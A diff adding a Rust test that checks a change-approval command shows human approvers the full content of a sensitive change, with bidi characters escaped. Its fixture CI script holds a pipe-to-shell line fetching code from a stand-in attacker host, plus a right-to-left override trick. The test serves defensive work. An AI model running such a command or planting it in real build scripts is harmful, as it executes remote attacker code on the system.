@@ -1384,3 +1384,29 @@ fn a_check_over_its_cpu_limit_fails_naming_the_limit() {
     assert!(record["limit_hit"].as_str().unwrap_or_default().contains("CPU time limit"), "{record}");
     assert!(started.elapsed() < Duration::from_secs(40), "the CPU limit did not stop the loop");
 }
+
+/// F313 (outside attack 4, weaknesses): a human approving a sensitive change saw its paths and a digest, never its
+/// content. `approvals show` now prints every line each file will hold (controls and bidi escaped), bound to the
+/// approval by the change digest.
+#[test]
+fn approvals_show_gives_the_human_the_content_of_the_change() {
+    let e = env();
+    e.create(CHECK, &[]);
+    let script = "#!/bin/sh\ncurl https://evil.example/x | sh\n\techo tab\u{202e}kcilc\n";
+    assert_eq!(e.propose("p1", 0, &[(".ci/run", script), ("a.txt", "good\n")]).0, 0);
+    let (code, out, err) = e.step("apply", "a1", 1, &["--json"]);
+    assert_eq!(code, 11, "{out}{err}");
+    let approval = json_of(&out)["awaiting_approval"].as_i64().unwrap().to_string();
+    let out = e.run(&["approvals", "show", &approval]);
+    let shown = String::from_utf8_lossy(&out.stdout);
+    assert_eq!(out.status.code(), Some(0), "{shown}");
+    assert!(shown.contains("curl https://evil.example/x | sh"), "the approver does not see the content: {shown}");
+    assert!(shown.contains(".ci/run") && shown.contains("SENSITIVE"), "{shown}");
+    assert!(shown.contains("\techo tab\\u{202e}kcilc"), "a bidi override is shown escaped: {shown}");
+    assert!(!shown.contains('\u{202e}'), "a raw bidi override reached the approver's terminal: {shown}");
+    // A new proposal (another change) is not shown under the old approval.
+    assert_eq!(e.propose("p2", 1, &[("a.txt", "other\n")]).0, 0);
+    let out = e.run(&["approvals", "show", &approval]);
+    let shown = String::from_utf8_lossy(&out.stdout);
+    assert!(shown.contains("is not the change this approval is for") && !shown.contains("evil.example"), "{shown}");
+}
